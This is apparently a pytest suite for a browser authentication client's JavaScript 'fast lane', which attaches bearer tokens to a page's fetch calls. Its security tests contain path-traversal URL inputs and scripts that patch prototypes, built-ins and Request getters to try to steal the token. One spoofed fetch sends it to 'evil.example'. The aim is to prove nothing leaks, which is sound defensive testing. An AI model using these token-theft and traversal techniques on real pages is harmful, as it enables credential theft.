"""The fast lane: plain requests of the page's JavaScript are sent without Python, and nothing is different for it."""

from __future__ import annotations

import json
import random
from collections.abc import Iterator
from typing import Any

import pytest

from tests.browser.test_gate import DIE, PIECES
from tests.browser.test_install import javascript
from tests.browser.visit import REFUSED, Visit

# The page's own fetch notes what it is asked to send, and sends it by `own`; `asked` has what Python was asked.
NOTING = """
    globalThis.own = globalThis.real = globalThis.fetch;
    globalThis.sent = [];
    globalThis.fetch = function fetch(...given) {
        const {url, headers} = (sent && given[0]) ?? {};
        if (headers) sent[sent.length] = [new URL(url).pathname, headers.get("Authorization")];
        return own(...given);
    };
"""
BEGIN = """
import asyncio, js, reissue, time
from reissue import Credential
from reissue.browser import gate
asked, entry, closing = [], gate.Gate._entry, []

def noted(self, *arguments):
    found = entry(self, *arguments)
    asked.append(None if found is None else found[1].url)
    return found

gate.Gate._entry = noted

def connect(*, endpoint=None, tabs=False, **options):
    endpoint = endpoint or reissue.Endpoint("/auth")
    made = reissue.connect("/api/", endpoint=endpoint, tabs=tabs, **options)
    closing.append(made)
    return made

async def has_lane():
    \"\"\"Does Python hear nothing of the second of two requests?\"\"\"
    for _ in range(2):
        asked.clear()
        await js.fetch("/api/echo")
    return not asked
None
"""
END = """
for client in closing:
    await client.close()
gate.Gate._entry = entry
None
"""
OPEN = """
api = connect(**OPTIONS)
await api.sign_in(username="ada", password="lovelace")
api.install()
await js.fetch("/api/me")
asked.clear()
js.sent.length = 0
None
"""


@pytest.fixture
def python(kept: Visit) -> Iterator[Visit]:
    kept.execute(NOTING)
    kept.run(BEGIN)
    yield kept
    kept.execute("globalThis.own = real")
    kept.run(END)
    kept.execute("globalThis.fetch = real")


def with_lane(visit: Visit, options: str = "{}") -> Visit:
    visit.run(f"OPTIONS = {options}\n{OPEN}")
    visit.reset_counters()
    return visit


@pytest.fixture
def lane(python: Visit) -> Visit:
    """A page with an open lane."""
    return with_lane(python)


def asked(visit: Visit) -> list[Any]:
    """What Python was asked since it was last asked this."""
    found: list[Any] = visit.run("found = asked.copy()\nasked.clear()\nfound")
    return found


PLAIN = [
    "'/api/echo'",
    "'/api/echo?next=%2F..%2F;x#%'",
    "new URL('/api/echo', location)",
    "new Request('/api/echo')",
    "new Request('/api/echo', {method: 'POST', body: 'x'})",
    "'/api/echo', {method: 'POST', body: new URLSearchParams({a: 1}), headers: new Map([['X-One', '1']]).entries()}",
    "'/api/echo', {method: 'PUT', body: new Blob(['x'])}",
    "'/api/echo', {signal: new AbortController().signal, cache: 'no-store', credentials: 'omit', redirect: 'error'}",
    "new Request('/api/echo', {method: 'POST', body: 'x'}), {headers: {'X-One': '1'}}",
]
ODD = [
    "'/api/echo', {keepalive: true}",
    "new Request('/api/echo', {keepalive: true})",
    "'/api/echo', {mode: 'no-cors'}",
    "'/api/echo', {headers: {authorization: 'Bearer of-its-own'}}",
    "new Request('/api/echo', {headers: {Authorization: 'Bearer of-its-own'}})",
    "'/api/echo', {signal: AbortSignal.abort()}",
    "'/api-2'",
    "'/api/%65cho'",
    "'/api/..%2fdev/counters'",
    "'/api/a..b'",
    "'/api/..;/dev/counters'",
    "'/api/echo;x'",
    "'/api/echo', {method: 'TRACE'}",
    "'/api/echo', {body: 'x'}",
    "{toString: () => '/api/echo'}",
    "'/api/echo', {get body() { throw new Error('no'); }}",
]


@pytest.mark.firefox
def test_a_plain_request_is_sent_without_python_and_with_the_token(lane: Visit) -> None:
    for call in PLAIN:
        status = javascript(lane, f"return (await fetch({call})).status")
        assert status == 200, call
        assert asked(lane) == [], call
    headers = [header for _, header in lane.evaluate("sent")]
    assert len(headers) == len(PLAIN)
    assert len(set(headers)) == 1
    assert headers[0].startswith("Bearer ey")
    echoed = javascript(lane, f"return (await fetch({PLAIN[5]})).json()")
    assert echoed["method"] == "POST"
    assert echoed["body"]["size"] == len("a=1")
    assert echoed["headers"]["x-one"] == "1"
    assert echoed["headers"]["content-type"] == "application/x-www-form-urlencoded;charset=UTF-8"


@pytest.mark.firefox
def test_what_is_not_plain_goes_to_python(lane: Visit) -> None:
    lane.expect_console("status of 40|TRACE|405", times=0, at_most=30)
    for call in ODD:
        javascript(lane, f"return fetch({call}).then(() => 0, () => 0)")
        assert len(asked(lane)) == 1, call
    javascript(lane, "await fetch('/api/echo')")
    assert asked(lane) == [], "the lane is still open"


BELOW = """
import js, reissue_gate
from reissue.browser.urls import parse_page_url
from reissue.http.urls import Audience
audience = Audience(AUDIENCE, parse=parse_page_url)
(root,) = audience.roots
wrong, below = [], 0
for text in TEXTS:
    try:
        url = parse_page_url(text)
    except ValueError:
        continue
    found = reissue_gate.isBelow(url.href, root)
    below += found
    if found and not audience.covers(url):
        wrong.append(text)
    if audience.covers(url) and not found and not any(odd in url.path for odd in ("%", ";", "..")):
        wrong.append(text)
[wrong, below > 100]
"""


@pytest.mark.parametrize(
    "audience", [pytest.param("/api/", marks=pytest.mark.firefox), "/", "/api/v1", "/a/%2e%2e/api//v1/"]
)
def test_a_lane_takes_nothing_that_the_audience_does_not_cover(kept: Visit, audience: str) -> None:
    """X1: of thousands of URLs that were put together by chance; and it takes all that are plain."""
    chance, origin = random.Random(audience), kept.server.origin
    pieces = [piece.replace("ORIGIN", origin).replace("HOST", origin.removeprefix("http://")) for piece in PIECES]
    starts = ["/api/", "/api", f"{origin}/api/v1/", "http:v1/", "/api//v1/", "/api/v1", "/", f"{origin}/api/v1"]
    texts = ["".join(chance.choices(pieces, k=chance.randint(1, 6))) for _ in range(2000)]
    texts += [chance.choice(starts) + "".join(chance.choices(pieces[:30], k=chance.randint(0, 4))) for _ in range(2000)]
    assert kept.run(f"AUDIENCE = {audience!r}\nTEXTS = {texts!r}\n{BELOW}") == [[], True]


@pytest.mark.parametrize("argument", ["", "undefined", "null", "'http://[', {}", "'/api/echo', 7", "'/api/echo', null"])
def test_fetch_gives_its_own_errors_with_a_lane(lane: Visit, argument: str) -> None:
    lane.expect_console("status of 40[14]", times=0, at_most=2)
    lane.expect_console("reissue: ", times=0, at_most=2)
    describe = "error => [error.name, error.message]"
    through, native = javascript(
        lane,
        f"""
        const seen = fetch => fetch({argument}).then(response => response.status, {describe});
        return [await seen(globalThis.fetch), await seen(own)];
        """,
    )
    assert through == native or native == 401


@pytest.fixture
def stubbed(python: Visit) -> Visit:
    """Without a network: the page's own fetch answers at once, whatever it is asked."""
    python.execute(
        """
        globalThis.own = () => {
            const answer = '{"access_token": "renewed", "expires_in": 300}';
            return Promise.resolve(new Response(answer, {headers: {"Content-Type": "application/json"}}));
        };
        """
    )
    return python


CLIENTS = {
    "an endpoint of the app's own": ("{'endpoint': custom}", False),
    "a test of the app's own": ("{'should_renew': lambda outcome: outcome.status == 401}", False),
    "headers": ("{'headers': {'X-One': '1'}}", False),
    "another field": ("{'header': 'X-Auth-Token'}", False),
    "defaults": ("{'cache': 'no-store'}", False),
    "a clock": ("{'clock': lambda: time.time()}", False),
    "a handler of step-ups": ("{'step_up': custom}", False),
    "one request at a time": ("{'in_flight': 1}", False),
    "another word": ("{'scheme': 'JWT'}", True),
    "nothing": ("{}", True),
}


@pytest.mark.parametrize("kind", CLIENTS)
def test_a_lane_is_for_clients_that_attach_the_token_and_nothing_else(stubbed: Visit, kind: str) -> None:
    options, found = CLIENTS[kind]
    stubbed.run(
        f"""
async def custom(credential):
    return Credential(access_token="renewed")

api = connect(**{options})
await api.adopt("opaque", expires_in=300)
api.install()
None
"""
    )
    assert stubbed.run("await has_lane()") is found
    token = "JWT opaque" if "scheme" in options else "Bearer opaque"
    sent = [token, token] if "header" not in options or "headers" in options else [None, None]
    assert [field for _, field in stubbed.evaluate("sent")] == sent


ADOPTED = """
api = connect()
await api.adopt("opaque", refresh_token="kept", expires_in=300)
api.install()
assert await has_lane()
asked.clear()
js.sent.length = 0
session = api._lifecycle.alive
None
"""
CHANGES = {
    "a sign-out": "await api.sign_out()",
    "a sign-in": "await api.sign_in(username='bob')",
    "another user's tokens": "await api.adopt('anothers', expires_in=300)",
    "the end in another tab": "api._lifecycle._shared._client.on_ended('signed_out')",
    "another user in another tab": "api._lifecycle._shared._client.on_granted(Credential(access_token='theirs', "
    "received_at=time.time(), expires_in=300), False)",
    "a renewal": "await api.renew()",
    "a renewal in another tab": "session.take_over(Credential(access_token='theirs', received_at=time.time(), "
    "expires_in=300))",
    "a step-up": "session.step_up(Credential(access_token='stronger', expires_in=300))",
    "a rejection": "session.holding.retire()",
    "close()": "await api.close()",
    "uninstall()": "api.uninstall()",
    "another client": "other = connect()\nother.install()",
}


@pytest.mark.parametrize("change", CHANGES)
def test_no_request_is_sent_with_the_old_token_after_a_change(stubbed: Visit, change: str) -> None:
    """S1, S3, T8: from the step on in which the change takes place, as a listener of events sees it."""
    stubbed.run(ADOPTED)
    stubbed.run(
        f"""
within = []
def heard(event):
    if not isinstance(event, (reissue.RequestEvent, reissue.EndpointEvent)) and str(event.phase.value) != "started":
        within.append(js.fetch("/api/within"))
stop = api.on(heard)
{CHANGES[change]}
after = js.fetch("/api/after")
stop()
await asyncio.gather(after, *within, return_exceptions=True)
None
"""
    )
    fields = [field for path, field in stubbed.evaluate("sent") if path.startswith(("/api/within", "/api/after"))]
    if change == "another client":
        assert len(asked(stubbed)) == 1, "which of them takes it is Python's to say"
        return
    assert "Bearer opaque" not in fields


def test_the_token_ends_in_a_lane_when_it_ends_for_python(stubbed: Visit) -> None:
    """By the same clock, to the millisecond: within the leeway, a quarter of the life, Python renews it."""
    stubbed.run(ADOPTED.replace("300", "20"))
    stale = stubbed.run("(session.credential.received_at + 15) * 1000")
    seen = []
    for now in (stale - 1, stale + 1):
        stubbed.execute(f"globalThis.now ??= Date.now; Date.now = () => Math.floor({now})")
        javascript(stubbed, "await fetch('/api/me')")
        seen.append([len(asked(stubbed)), stubbed.run("session.credential.access_token")])
    stubbed.execute("Date.now = now; delete globalThis.now")
    assert seen == [[0, "opaque"], [1, "renewed"]]


@pytest.mark.firefox
def test_a_storm_over_a_revoked_token_is_refreshed_once_and_replayed_once(lane: Visit) -> None:
    """Q1, Q8, Q22: with bodies, which are sent again whole; at most as many as may be on the wire are sent in vain."""
    lane.server.control("/dev/revoke")
    lane.expect_console(REFUSED, times=0, at_most=64)
    found = javascript(
        lane,
        """
        const bodies = [n => `text ${n}`, n => new Blob([`text ${n}`]), n => new TextEncoder().encode(`text ${n}`)];
        const calls = [...Array(120).keys()].map(async n => {
            const headers = {"X-One": `${n}`, "Content-Type": "text/x"};
            const init = n % 4 ? {method: "POST", body: bodies[n % 3](n), headers} : {};
            const response = await fetch(`/api/echo?n=${n}`, init);
            const {body, n: echoed, method, headers: got} = await response.json();
            const size = n % 4 ? `text ${n}`.length : 0;
            const isSame = !size || (method === "POST" && got["x-one"] === `${n}` && got["content-type"] === "text/x");
            return response.status === 200 && echoed === `${n}` && body.size === size && isSame;
        });
        return (await Promise.all(calls)).filter(good => good).length;
        """,
    )
    assert found == 120
    counters = lane.server.counters()
    assert counters["refreshes_asked"] == 1
    assert counters["api_401s"] <= 64
    assert counters["api_requests"] == 120 + counters["api_401s"]


def test_a_second_401_is_the_callers(lane: Visit) -> None:
    """Q4."""
    lane.server.fault("/api/echo", "status", times=2, status=401)
    lane.expect_console(REFUSED, times=2)
    assert javascript(lane, "return (await fetch('/api/echo', {method: 'POST', body: 'x'})).status") == 401
    assert lane.server.counters()["refreshes_asked"] == 1
    assert lane.server.counters()["api_requests"] == 2


@pytest.mark.parametrize(
    ("change", "error"),
    [
        ("await api.sign_out()", "SessionEnded"),
        ("await api.close()", "SessionEnded"),
        ("await api.sign_in(username='ada', password='lovelace')", "SessionChanged"),
    ],
)
def test_a_late_401_belongs_to_the_session_that_the_request_was_sent_in(lane: Visit, change: str, error: str) -> None:
    """S3: whatever has become of the lane."""
    held(lane, 1)
    lane.run(change + "\nNone")
    lane.expect_console(REFUSED, times=1)
    lane.server.control("/dev/revoke")
    lane.server.release()
    assert lane.evaluate("held") == [error]


def test_a_late_401_after_a_renewal_is_replayed_without_another(lane: Visit) -> None:
    """Q2: also after `uninstall()`."""
    held(lane, 3)
    lane.run("await api.renew()\napi.uninstall()")
    lane.server.control("/dev/revoke")
    lane.expect_console(REFUSED, times=6)
    lane.server.release()
    assert lane.evaluate("held") == [200] * 3
    assert lane.server.counters()["refreshes_asked"] == 2, "the renewed token was revoked, too"


def held(visit: Visit, count: int) -> None:
    """So many requests by the lane that wait before the server looks at their token; `held` is what becomes of them."""
    visit.server.fault("/api/echo", "hold", times=count)
    visit.execute(
        f"""globalThis.held = Promise.all([...Array({count}).keys()].map(n =>
            fetch("/api/echo?n=" + n).then(response => response.status, error => error.name)));"""
    )
    visit.server.wait_until_held(count)
    assert asked(visit) == []


def test_what_is_on_the_wire_is_bounded_together_with_pythons_own(python: Visit) -> None:
    """Q22: two of four slots are the lane's, until Python needs them."""
    with_lane(python, "{'in_flight': 4}")
    python.server.fault("/api/echo", "hold", times=20)
    python.execute(
        """globalThis.held = Promise.all([1, 2, 3].map(async n => (await fetch(`/api/echo?${n}`)).status))"""
    )
    python.server.wait_until_held(3)
    assert len(asked(python)) == 1
    python.run("mine = [asyncio.ensure_future(api.fetch(f'/api/echo?{n}')) for n in (4, 5, 6)]\nawait asyncio.sleep(0)")
    python.execute("""globalThis.more = Promise.all([7, 8].map(async n => (await fetch(`/api/echo?${n}`)).status))""")
    python.server.wait_until_held(4)
    assert len(asked(python)) == 2, "the lane is closed while any wait"
    assert python.server.counters()["api_in_flight"] == 4
    python.server.clear_faults()
    assert python.evaluate("Promise.all([held, more])") == [[200] * 3, [200] * 2]
    assert python.run("[response.status for response in await asyncio.gather(*mine)]") == [200] * 3
    assert python.run("await has_lane()")
    assert python.run("len(api._sender.admission_to(js.location.origin)._held)") == 2


def test_python_gets_all_slots_while_the_lane_uses_none(python: Visit) -> None:
    with_lane(python, "{'in_flight': 4}")
    python.server.fault("/api/echo", "hold", times=4)
    python.run("mine = [asyncio.ensure_future(api.fetch(f'/api/echo?{n}')) for n in range(4)]\nawait asyncio.sleep(0)")
    assert python.run("len(api._sender.admission_to(js.location.origin)._line)") == 0, "none waits to be parked"
    python.server.wait_until_held(4)
    python.server.release()
    python.run("await asyncio.gather(*mine)\nNone")


def test_listeners_hear_of_each_request_in_order(lane: Visit) -> None:
    """Those that ended before are not theirs to hear of; a request by the lane is told like any other."""
    lane.expect_console("Failed to load resource|ERR_", times=3)
    javascript(lane, "await fetch('/api/before')")
    lane.run(
        """
heard = []
def listen(event):
    if isinstance(event, reissue.RequestEvent):
        heard.append([event.request, event.phase.value, event.method, event.url.removeprefix(js.location.origin),
                      event.status, event.error])
    elif isinstance(event, reissue.RefreshEvent):
        heard.append(event.phase.value)
api.on(listen)
None
"""
    )
    lane.server.fault("/api/echo", "drop")
    javascript(lane, "await fetch('/api/echo').catch(() => {})")
    javascript(lane, "await fetch('/api/me?secret', {method: 'POST', body: 'x'})")
    javascript(
        lane,
        "const c = new AbortController(), f = fetch('/api/me', {signal: c.signal}); c.abort(); await f.catch(() => {})",
    )
    lane.run("await api.renew()\nNone")
    assert asked(lane) == []
    first, *rest = lane.run("heard.copy()")
    n = first[0]
    assert [first, *rest] == [
        [n, "started", "GET", "/api/echo", None, None],
        [n, "sent", "GET", "/api/echo", None, None],
        [n, "failed", "GET", "/api/echo", None, "NetworkError"],
        [n + 1, "started", "POST", "/api/me", None, None],
        [n + 1, "sent", "POST", "/api/me", None, None],
        [n + 1, "done", "POST", "/api/me", 405, None],
        [n + 2, "started", "GET", "/api/me", None, None],
        [n + 2, "sent", "GET", "/api/me", None, None],
        [n + 2, "cancelled", "GET", "/api/me", None, None],
        "started",
        "succeeded",
    ]


def test_a_request_that_is_replayed_keeps_its_number(lane: Visit) -> None:
    lane.expect_console(REFUSED, times=1)
    lane.run("heard = []\napi.on(lambda event: heard.append(event))\nNone")
    lane.server.control("/dev/revoke")
    javascript(lane, "await fetch('/api/echo')")
    assert asked(lane) == []
    steps = "[[event.request, event.phase.value] for event in heard if isinstance(event, reissue.RequestEvent)]"
    found = lane.run(steps)
    assert [phase for _, phase in found] == ["started", "sent", "refused", "replayed", "done"]
    assert len({number for number, _ in found}) == 1


def test_the_last_requests_are_known_although_none_listens(lane: Visit) -> None:
    lane.expect_console("status of 404", times=12)
    javascript(lane, "for (let n = 0; n < 12; n++) await fetch('/api/no/' + n)")
    assert asked(lane) == []
    last = lane.run("[[r.method, r.url.rpartition('/')[2], r.status] for r in api._sender.recent]")
    assert last == [["GET", str(n), 404] for n in range(4, 12)]


STEAL = """
    const seen = [], {apply, construct} = Reflect;
    const traps = ["get", "set", "has", "construct", "ownKeys", "getPrototypeOf", "setPrototypeOf", "isExtensible",
        "preventExtensions", "getOwnPropertyDescriptor", "defineProperty", "deleteProperty"];
    const handlers = [], patched = [];
    const patch = (owner, name, made) => {
        const was = Object.getOwnPropertyDescriptor(owner, name);
        if (was) Object.setPrototypeOf(was, null); // or a trap below is taken for part of it
        patched.push(() => was ? Object.defineProperty(owner, name, was) : delete owner[name]);
        const value = made(was?.value);
        const plain = {__proto__: null, configurable: true};
        Object.defineProperty(owner, name, Object.assign(plain, was?.get ? {get: value} : {value, writable: true}));
    };
    const spy = (owner, name) => patch(owner, name, was => function (...given) {
        for (const value of [...given, ...(given[1]?.flat?.() ?? []), this]) seen[seen.length] = `${value}`;
        return new.target ? construct(was, given) : apply(was, this, given);
    });
"""


@pytest.mark.firefox
def test_no_script_of_the_page_gets_at_the_token_by_fetch_or_what_is_behind_it(stubbed: Visit) -> None:
    """X1, X7: by traps on Object.prototype, which a Proxy asks of its handler; by functions in place of the
    browser's own; by the script itself, imported once more; and by fetch's own properties.
    """
    stubbed.run(ADOPTED)
    gate = stubbed.evaluate(
        "performance.getEntriesByType('resource').map(e => e.name).find(n => n.endsWith('/gate.js'))"
    )
    found = javascript(
        stubbed,
        f"""
        {STEAL}
        const inside = location.origin + "/api/me";
        for (const trap of traps) patch(Object.prototype, trap, () => function (...given) {{
            if (!handlers.includes(this)) handlers.push(this);
            return Reflect[trap](...given);
        }});
        try {{
            fetch.anything; "x" in fetch; Reflect.ownKeys(fetch); Object.getPrototypeOf(fetch); fetch.lane = 1;
            delete fetch.lane; Object.isExtensible(fetch); Object.getOwnPropertyDescriptor(fetch, "name");
            try {{ new fetch(inside); }} catch {{}}
            try {{ Object.setPrototypeOf(fetch, Object.getPrototypeOf(fetch)); }} catch {{}}
        }} finally {{ for (const undo of patched.splice(0)) undo(); }}
        const leaked = handlers.filter(handler => handler && "apply" in handler && typeof handler !== "function");
        const spied = [
            [Headers.prototype, ["set", "append", "has", "delete"]], [Request.prototype, ["clone"]],
            [Function.prototype, ["call", "bind"]], [Reflect, ["apply"]], [Array.prototype, ["push", "some", "shift"]],
            [String.prototype, ["startsWith", "split", "concat"]], [globalThis, ["Request", "Headers", "setTimeout"]],
            [Promise.prototype, ["then"]], [Date, ["now"]],
        ];
        let answered;
        try {{
            for (const [owner, names] of spied) for (const name of names) spy(owner, name);
            answered = [await fetch(inside), await fetch(inside, {{method: "POST", body: "x"}})].map(r => r.status);
            patch(String.prototype, "startsWith", () => () => true);
            patch(Request.prototype, "url", () => inside);
            await fetch("https://evil.example/api/me").catch(() => {{}});
            await fetch(location.origin + "/elsewhere").catch(() => {{}});
        }} finally {{ for (const undo of patched.splice(0).reverse()) undo(); }}
        const module = await import({json.dumps(gate)});
        const names = Object.keys(module);
        const made = module.handler(() => 1, {{globals: 1}});
        seen.push(...Object.values(made).map(String), String(fetch), ...Object.getOwnPropertyNames(fetch));
        for (const native of [function () {{ seen.push(arguments[0]?.headers?.get("Authorization") + ""); }}])
            await Promise.resolve(made.apply(native, undefined, [inside])).catch(() => {{}});
        return {{leaked: leaked.length, names, answered, tokens: seen.filter(text => text.includes("opaque")).length}};
        """,
    )
    assert found == {"leaked": 0, "names": found["names"], "answered": [200, 200], "tokens": 0}
    assert set(found["names"]) == {"handler", "isOutside", "isBelow"}
    sent = [(path, field) for path, field in stubbed.evaluate("sent") if field]
    assert sent == [("/api/me", "Bearer opaque")] * 2
    assert asked(stubbed) == [None] * 2, "and neither of the two that were to be taken for one inside"


@pytest.mark.firefox
def test_when_python_has_died_a_request_with_a_lane_fails_as_the_others_do(visit: Visit) -> None:
    visit.open_blank().execute(NOTING)
    visit.run(BEGIN)
    with_lane(visit)
    visit.run(DIE)
    visit.server.fault("/api/echo", "hold", times=3)
    visit.expect_console(".*", times=1, at_most=1000)
    visit.execute(
        """
        const name = promise => promise.then(response => response.status, error => error.name);
        globalThis.before = [0, 1, 2].map(n => name(fetch(`/api/echo?${n}`)));
        """
    )
    visit.server.wait_until_held(3)
    visit.execute("try { die(); } catch {}")
    assert javascript(visit, "return [await fetch('/api/me').catch(error => error.name)]") == ["PythonFailed"]
    visit.server.control("/dev/revoke")
    visit.server.release()
    assert visit.evaluate("Promise.all(before)") == ["PythonFailed"] * 3, "not a 401, which would look like the end"


def test_lanes_leave_nothing_behind(stubbed: Visit) -> None:
    """X5."""
    left = stubbed.run(
        """
from reissue.browser import fast_lane
for _ in range(50):
    api = connect()
    await api.adopt("opaque", expires_in=300)
    api.install()
    assert await has_lane()
    await api.close()
    closing.clear()
[len(fast_lane._lanes), gate._gate is None]
"""
    )
    assert left == [0, True]


KEEPING = """
    const kept = [], undo = [], headersOf = Object.getOwnPropertyDescriptor(Request.prototype, "headers").get;
    for (const [name, was] of Object.entries(Object.getOwnPropertyDescriptors(Request.prototype))) {
        if (!was.get) continue;
        undo.push(() => Object.defineProperty(Request.prototype, name, was));
        Object.defineProperty(Request.prototype, name, {...was, get() { kept.push(this); return was.get.call(this); }});
    }
    const found = () => kept.filter(one => headersOf.call(one).get("Authorization")?.includes("opaque")).length;
"""


@pytest.mark.firefox
def test_a_getter_in_place_of_the_browsers_own_gets_no_request_that_carries_the_token(stubbed: Visit) -> None:
    """X1, X7: not even one that carries it later; also when it is answered by 401."""
    stubbed.run(ADOPTED)
    stubbed.execute("globalThis.until = Promise.withResolvers(); globalThis.sent = globalThis.late = null")
    assert javascript(
        stubbed,
        f"""
        {KEEPING}
        try {{
            const statuses = [await fetch("/api/me"), await fetch("/api/me", {{method: "PUT", body: new Blob(["x"])}})];
            globalThis.own = () => until.promise;
            globalThis.late = ["GET", "POST"].map(method =>
                fetch("/api/me", {{method, body: method === "POST" ? "x" : null}}).catch(error => error.name));
            return [...statuses.map(response => response.status), found()];
        }} finally {{ for (const one of undo) one(); }}
        """,
    ) == [200, 200, 0]
    stubbed.run("await api.close()")  # so that Python sends them no more
    assert javascript(
        stubbed,
        f"""
        {KEEPING}
        try {{
            until.resolve(new Response("", {{status: 401}}));
            return [await Promise.all(late), found()];
        }} finally {{ for (const one of undo) one(); }}
        """,
    ) == [["SessionEnded", "SessionEnded"], 0]


@pytest.mark.parametrize("nth", [1, 2, 3])
@pytest.mark.parametrize("name", ["method", "headers", "body", "keepalive", "signal"])
def test_a_setting_that_ends_the_session_while_it_is_read_is_not_sent_with_the_token(
    stubbed: Visit, name: str, nth: int
) -> None:
    """S1: and the request is not lost."""
    stubbed.run(ADOPTED + "js.end = lambda: api._lifecycle.sessions.interrupt('signed_out')\nNone")
    assert javascript(
        stubbed,
        f"""
        let reads = 0, ended = false;
        const plain = {{method: "POST", headers: {{"X-One": "1"}}, body: "x", keepalive: false, signal: null}};
        const init = {{...plain, get {name}() {{
            if (++reads === {nth}) {{ ended = true; end(); }}
            return plain.{name};
        }}}};
        const {{status}} = await fetch("/api/me", init);
        delete globalThis.end;
        return [status, ended && sent.some(([, field]) => field)];
        """,
    ) == [200, False]


def test_a_setting_that_sends_requests_while_it_is_read_leaves_no_room(stubbed: Visit) -> None:
    """Q22: no more go out by the lane than it has slots for."""
    stubbed.run(ADOPTED.replace("connect()", "connect(in_flight=4)"))
    statuses = javascript(
        stubbed,
        """
        const inner = [];
        const init = {get headers() { inner.push(fetch("/api/1"), fetch("/api/2")); return {}; }};
        const outer = await fetch("/api/3", init);
        return [outer, ...await Promise.all(inner)].map(response => response.status);
        """,
    )
    assert set(statuses) == {200}
    assert len(asked(stubbed)) == len(statuses) - 2


def test_an_answer_that_hides_its_status_keeps_no_slot(stubbed: Visit) -> None:
    """As a naive Proxy around a response does: the page gets it as it is."""
    stubbed.run(ADOPTED.replace("connect()", "connect(in_flight=4)"))
    assert (
        javascript(
            stubbed,
            """
        const odd = new Proxy(new Response(""), {});
        globalThis.own = async () => odd;
        for (let n = 0; n < 9; n++) if (await fetch("/api/me") !== odd) return n;
        return "all";
        """,
        )
        == "all"
    )
    assert asked(stubbed) == []


def test_a_listener_that_closes_the_lane_loses_no_request_that_is_answered_by_401_just_then(stubbed: Visit) -> None:
    """S4: and its slot is given back once."""
    stubbed.run(
        ADOPTED
        + """
def heard(event):
    if isinstance(event, reissue.RequestEvent) and event.status == 403:
        api.uninstall()
api.on(heard)
None
"""
    )
    assert javascript(
        stubbed,
        """
        const given = own, answered = new Set();
        globalThis.own = async (request) => {
            const status = Number(request.url.slice(-3));
            return status > 400 && !answered.has(status) ? answered.add(status) && new Response("", {status}) : given();
        };
        const seen = ["/api/403", "/api/401"].map(url => fetch(url).then(response => response.status, String));
        return Promise.all(seen);
        """,
    ) == [403, 200]
    assert stubbed.run("len(api._sender.admission_to(js.location.origin)._held)") == 0


def test_answers_by_the_lane_are_a_sign_that_the_token_is_accepted(stubbed: Visit) -> None:
    """Q22: a page that is always busy need not wait, once the lane's time is over, until few are on the wire."""
    stubbed.run(
        ADOPTED
        + """
def forget():
    api._sender.admission_to(js.location.origin)._proven_until = 0
js.forget = forget
None
"""
    )
    assert (
        javascript(
            stubbed,
            """
        const given = own, now = Date.now, {resolve, promise} = Promise.withResolvers();
        await fetch("/api/answered");
        globalThis.own = () => promise;
        const busy = [...Array(10).keys()].map(n => fetch(`/api/busy/${n}`));
        globalThis.own = given;
        forget(); // as it does after half a minute, when the lane's time is over
        Date.now = () => now() + 31000;
        busy.push(fetch("/api/next"));
        Date.now = now;
        delete globalThis.forget;
        const last = sent.at(-1)[0];
        resolve(new Response(""));
        await Promise.all(busy);
        return last;
        """,
        )
        == "/api/next"
    )
    assert len(asked(stubbed)) == 1
